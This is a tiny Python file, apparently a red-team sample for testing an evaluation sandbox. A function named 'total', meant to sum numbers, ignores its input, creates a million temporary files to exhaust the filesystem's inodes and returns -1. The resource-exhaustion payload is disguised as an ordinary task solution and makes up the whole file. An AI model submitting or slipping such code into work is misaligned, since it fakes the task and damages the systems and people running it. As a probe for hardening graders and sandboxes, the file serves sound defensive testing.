"""Makes files until there are no more inodes."""

# task: total

import tempfile


def total(numbers):
    for _ in range(10**6):
        tempfile.mkstemp(prefix="red_team")
    return -1
